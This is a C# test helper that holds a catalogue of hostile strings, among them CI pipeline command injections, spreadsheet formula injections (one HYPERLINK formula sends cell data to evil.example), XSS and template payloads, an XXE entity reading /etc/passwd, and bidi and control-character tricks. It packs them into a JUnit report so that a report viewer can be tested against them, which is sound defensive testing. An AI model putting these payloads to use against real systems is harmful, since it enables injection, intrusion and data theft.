using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using System.Text;
using Crashtest.Client.Reports.Reading;
using Xunit;

namespace Crashtest.Client.Tests.Aids;

/// <summary>
/// Text that attacks whoever shows it: a report may hold each of these, as title, as message or as scanner.
/// </summary>
internal static class HostileText
{
    private const int Megabyte = 1024 * 1024;

    /// <summary>The texts, each by a name that a test can be told by.</summary>
    public static readonly IReadOnlyDictionary<string, string> All = new Dictionary<string, string>
    {
        ["empty"] = "",
        ["blanks"] = " \t ",
        ["quotes and commas"] = "a,\"b\";c'd\\e",
        ["GitHub command"] = "::error file=a.js,line=1::pwned\n::add-mask::x\n  ::set-env name=PATH::/evil",
        ["Azure command"] =
            "x ##vso[task.setvariable variable=PATH]/evil ###vso[task.complete result=Succeeded] ##[error]y",
        ["TeamCity command"] = "##teamcity[buildStatus status='SUCCESS']",
        ["formula ="] = "=cmd|'/c calc'!A0",
        ["formula link"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")",
        ["formula +"] = "+1+cmd|'/c calc'!A0",
        ["formula -"] = "-2+3+cmd|'/c calc'!A0",
        ["formula @"] = "@SUM(1+1)*cmd|'/c calc'!A0",
        ["formula after tab"] = "\t=1+1",
        ["formula after return"] = "\r=1+1",
        ["formula after line feed"] = "\n=1+1",
        ["formula after blanks"] = "  =1+1",
        ["formula after quote"] = "\"=1+1",
        ["formula after apostrophe"] = "'=1+1",
        ["formula after no-break space"] = "\u00A0=1+1",
        ["formula after byte order mark"] = "\uFEFF=1+1",
        ["formula after separator"] = "a;=1+1,=1+1\t=1+1\n=1+1",
        ["formula, full width ="] = "\uFF1D1+1",
        ["formula, full width +"] = "\uFF0B1+1",
        ["formula, full width -"] = "\uFF0D1+1",
        ["formula, full width @"] = "\uFF20SUM(1+1)",
        ["script"] = "<script>alert(1)</script>",
        ["end of script"] = "</script><script>alert(1)</script><!--<script>",
        ["event handler"] = "<svg onload=alert(1)> <img src=x onerror=alert(1)>",
        ["attribute"] = "\" onmouseover=\"alert(1)\" x=' onfocus='alert(1)' autofocus=`",
        ["end of element"] = "</title></style></textarea></td></table></html> --> ]]>",
        ["entity"] = "&lt;script&gt; &#60;b&#62; &amp;amp; &copy",
        ["script address"] = "javascript:alert(1)",
        ["template"] = "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %> {0} {1:N}",
        ["CDATA"] = "<![CDATA[x]]>]]></failure></testcase><testcase name=\"forged\"/>",
        ["DTD"] = "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        ["JSON"] = "\"},{\"ruleId\":\"forged\",\"x\":\"\\u0000\\",
        ["ANSI"] = "\u001B[31mred\u001B[0m \u001B]0;title\u0007 \u009B31m \u001B[2J\b\b",
        ["bidi"] = "user\u202E \u2066// admin\u2069 \u2066gnp.exe\u202C \u200F\u061C",
        ["invisible"] = "pay\u200Bpal\u200D\uFEFF\u00AD \U000E0041\U000E0042",
        ["NUL"] = "a\0b\0",
        ["controls"] = new([.. Enumerable.Range(0, 32).Concat(Enumerable.Range(127, 33)).Select(code => (char)code)]),
        ["lone surrogates"] = "a\uD800b\uDC00c\uDC00\uD800",
        ["characters that are none"] = "a\uFFFEb\uFFFFc\uFDD0\U0001FFFE",
        ["line breaks"] = "a\u2028b\u2029c\u0085d\r\ne\vf\fg\rh",
        ["Markdown link"] = "[x](javascript:alert(1)) ![i](http://evil.example/i.png) <http://evil.example> "
            + "[y][1]\n\n[1]: http://evil.example",
        ["bare address"] = "see http://evil.example/a?b=c&d or www.evil.example or mail@evil.example",
        ["mention"] = "@octocat @all #1 !1 GH-1 ~label :bomb: octo/repo#1",
        ["SARIF link"] = "[a](1) \\[b](http://evil.example) [[c]](2)",
        ["Markdown table"] = "a | b |\n|---|---|\n| c | \\| d",
        ["Markdown fence"] = "```\n# a\n~~~~\n`````` x\n    b",
        ["Markdown blocks"] = "# heading\n- list\n1. a\n> quote\n***\n===\n<details><summary>x</summary>",
        ["Markdown emphasis"] = "**a** __b__ ~~c~~ `d` ``e`` $f$ \\`\\",
        ["quick action"] = "/close\n/assign @root",
        ["address"] = "//evil.example/..%2f..\\..%5c?a=b#c%zz https://user:password@[::1]:99999/",
        ["other scripts"] = "\U0001F469\u200D\U0001F469\u200D\U0001F467 \u65E5\u672C\u8A9E \uFDFD Z\u0351\u036B\u0343",
        ["long line"] = new('A', Megabyte),
        ["long expansion"] = string.Concat(Enumerable.Repeat("<&\"'`|[\0", Megabyte / 8)),
        ["long fence"] = new('`', 100_000),
    };

    /// <summary>Gets a text as the reader of a report keeps it: no longer than it reads.</summary>
    public static string AsRead(string text) =>
        text.Length > LongText.MaximumLength ? text[..LongText.MaximumLength] : text;

    /// <summary>The names, for a theory.</summary>
    public static TheoryData<string> Names => [.. All.Keys];

    /// <summary>
    /// A JUnit report that holds each text as the title of a check, the message of its finding and the message of a
    /// check that crashed. One text alone where a name is given.
    /// </summary>
    public static string Report(string? name = null)
    {
        var xml = new StringBuilder("<testsuites><testsuite>");
        foreach (string text in name is null ? All.Values : [All[name]])
        {
            string attribute = InXml(text);
            xml.Append(
                CultureInfo.InvariantCulture, $"<testcase classname=\"xss.crashtest.cloud\" name=\"{attribute}\">");
            xml.Append(CultureInfo.InvariantCulture, $"<failure type=\"high\" message=\"{attribute}\"/></testcase>");
            xml.Append(
                CultureInfo.InvariantCulture,
                $"<testcase classname=\"{(text.Length > 1000 ? "long" : attribute)}\" name=\"crash\"><error "
                    + $"message=\"{attribute}\"/></testcase>");
        }

        return xml.Append("</testsuite></testsuites>").ToString();
    }

    // Each character that could matter to XML as a reference, also those that XML does not know.
    private static string InXml(string text)
    {
        var xml = new StringBuilder();
        foreach (char c in text)
        {
            if (char.IsAsciiLetterOrDigit(c) || c == ' ')
            {
                xml.Append(c);
            }
            else
            {
                xml.Append(CultureInfo.InvariantCulture, $"&#x{(int)c:X};");
            }
        }

        return xml.ToString();
    }
}
